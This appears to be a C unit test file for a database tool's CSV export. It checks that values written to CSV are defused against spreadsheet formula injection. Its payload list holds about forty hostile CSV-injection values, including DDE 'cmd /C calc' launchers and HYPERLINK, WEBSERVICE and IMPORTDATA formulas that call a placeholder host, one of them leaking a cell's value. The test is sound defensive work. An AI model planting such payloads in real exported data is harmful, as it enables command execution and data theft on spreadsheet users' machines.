/* SPDX-FileCopyrightText: The Sobremesa developers
 * SPDX-License-Identifier: GPL-3.0-or-later
 */

/* What a guest writes never becomes a formula in a manager's spreadsheet: each way to write CSV, over texts that spreadsheets run. */

#include <gio/gio.h>
#include <string.h>

#include "import/sobre-csv-reader.h"
#include "query/sobre-result-csv.h"

static const char *const payloads[] = {
  "=1+1",
  "=cmd|' /C calc'!A0",
  "=HYPERLINK(\"http://example.invalid?x=\"&A1,\"click\")",
  "=WEBSERVICE(\"http://example.invalid\")",
  "=IMPORTXML(\"http://example.invalid\",\"//a\")",
  "=IMPORTDATA(\"http://example.invalid\")",
  "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
  "=2+5+cmd|' /C calc'!A0",
  "=SUM(1,2)*cmd|' /C calc'!A0",
  "=\"a\"&\"b\"",
  "=",
  "==1",
  "+1",
  "+1+cmd|' /C calc'!A0",
  "+SUM(A1:A9)",
  "-1",
  "-2+3",
  "-2+3+cmd|' /C calc'!D2",
  "-A1",
  "@SUM(1+1)",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "@A1",
  "\t=1+1",
  "\t1",
  "\r=1+1",
  "\n=1+1",
  "\r\n+1",
  " =1+1",
  "   -1",
  "\xc2\xa0=1+1",
  "\xe3\x80\x80=1+1",
  "\xef\xbb\xbf=1+1",
  "\xef\xbb\xbf \xc2\xa0@A1",
  "\xef\xbc\x9d"
  "1+1", /* full-width = + - @ */
  "\xef\xbc\x8b"
  "1",
  "\xef\xbc\x8d"
  "1",
  "\xef\xbc\xa0"
  "A1",
  "|calc",
  "%0A=1+1",
  "=1\"+1,\"2",
  "=1+1\r\n=2+2",
  "=A1;B1",
};

G_STATIC_ASSERT (G_N_ELEMENTS (payloads) >= 40);

/* @text with its quotes doubled. */
static void
append_doubled (GString *csv, const char *text)
{
  for (; *text != '\0'; text++)
    {
      if (*text == '"')
        g_string_append_c (csv, '"');
      g_string_append_c (csv, *text);
    }
}

/* A text as CSV, written by hand: an apostrophe before it, and quotes around. */
static char *
defuse (const char *text)
{
  GString *cell = g_string_new ("\"'");

  append_doubled (cell, text);
  g_string_append_c (cell, '"');
  return g_string_free_and_steal (cell);
}

static char *
write_result (const char *name, const char *text)
{
  const SobreResultCsvColumn column = { name, "varchar", 0, 0 };
  g_autoptr (SobreResultCsv) reader = sobre_result_csv_new (&column, 1, 10);
  g_autoptr (SobreResultTable) table = NULL;
  g_autoptr (GOutputStream) stream = g_memory_output_stream_new_resizable ();
  g_autoptr (GString) csv = g_string_new (NULL);
  g_autoptr (GError) error = NULL;

  for (guint row = 0; row < 2; row++)
    {
      g_string_append_c (csv, '"');
      append_doubled (csv, row == 0 ? name : text);
      g_string_append (csv, "\"\n");
    }
  g_assert_true (sobre_result_csv_feed (reader, csv->str, csv->len, &error));
  table = sobre_result_csv_finish (reader, &error);
  g_assert_no_error (error);
  g_assert_true (sobre_result_table_write (table, SOBRE_RESULT_FORMAT_CSV, stream, NULL, &error));
  g_assert_no_error (error);
  return g_strndup (g_memory_output_stream_get_data (G_MEMORY_OUTPUT_STREAM (stream)),
                    g_memory_output_stream_get_data_size (G_MEMORY_OUTPUT_STREAM (stream)));
}

/* Both the rows of a result and the names of its columns, which a query may choose. */
static void
test_results (void)
{
  for (guint i = 0; i < G_N_ELEMENTS (payloads); i++)
    {
      g_autofree char *defused = defuse (payloads[i]);
      g_autofree char *expected = g_strdup_printf ("%s\r\n%s\r\n", defused, defused);
      g_autofree char *written = write_result (payloads[i], payloads[i]);

      g_assert_cmpstr (written, ==, expected);
    }
}

/* The rows that an import leaves out, for a person to look at. */
static void
test_rejects (void)
{
  static const char delimiters[] = { ',', ';', '\t' };

  for (guint i = 0; i < G_N_ELEMENTS (payloads) * G_N_ELEMENTS (delimiters); i++)
    {
      const char *payload = payloads[i / G_N_ELEMENTS (delimiters)];
      g_autofree char *defused = defuse (payload);
      g_autoptr (GString) written = g_string_new (NULL);

      sobre_csv_append_cell (written, sobre_text (payload), delimiters[i % G_N_ELEMENTS (delimiters)], TRUE);
      g_assert_cmpstr (written->str, ==, defused);
    }
}

/* Numbers and words that only look a little like one stay as they are. */
static void
test_nothing_else (void)
{
  static const char *const plain[] = { "a=b", "1-2", "paella", "'quoted'", "5 + 5", "mail@example.invalid", "100%" };

  for (guint i = 0; i < G_N_ELEMENTS (plain); i++)
    {
      g_autofree char *expected = g_strdup_printf ("x\r\n%s\r\n", plain[i]);
      g_autofree char *written = write_result ("x", plain[i]);

      g_assert_cmpstr (written, ==, expected);
    }
}

int
main (int argc, char *argv[])
{
  g_test_init (&argc, &argv, NULL);
  g_test_add_func ("/csv-formulas/results", test_results);
  g_test_add_func ("/csv-formulas/rejects", test_rejects);
  g_test_add_func ("/csv-formulas/nothing-else", test_nothing_else);
  return g_test_run ();
}
